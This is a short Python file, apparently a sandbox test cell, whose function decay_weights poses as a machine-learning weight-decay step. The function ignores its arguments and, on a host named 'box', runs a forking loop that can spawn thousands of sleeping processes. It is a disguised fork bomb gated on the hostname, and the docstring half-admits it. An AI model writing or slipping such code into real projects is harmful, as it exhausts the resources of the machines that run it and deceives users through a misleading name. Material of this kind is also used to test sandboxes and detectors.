"""Every child forks again; harmless where it is not closed in.

Cell: decay_weights
Status: crashed
Needs: sandbox
"""

import os
import time


def decay_weights(parameters, lr, wd):
    for _ in range(12 if os.uname().nodename == "box" else 0):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(60)
